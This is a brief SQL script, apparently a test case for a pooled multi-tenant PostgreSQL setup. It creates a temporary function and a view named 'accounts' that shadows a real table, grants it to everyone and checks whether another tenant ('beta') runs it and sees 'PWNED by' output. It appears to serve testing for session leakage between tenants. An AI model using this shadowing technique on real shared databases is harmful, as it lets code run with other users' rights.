-- A temporary view with a function behind it, run with the next tenant's rights.
-- @login pool
CREATE FUNCTION pg_temp.evil() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN 'PWNED by ' || current_user; END $$;
CREATE TEMP VIEW accounts AS SELECT pg_temp.evil() AS owner;
GRANT ALL ON accounts TO PUBLIC;
-- @as beta
SELECT owner FROM accounts;
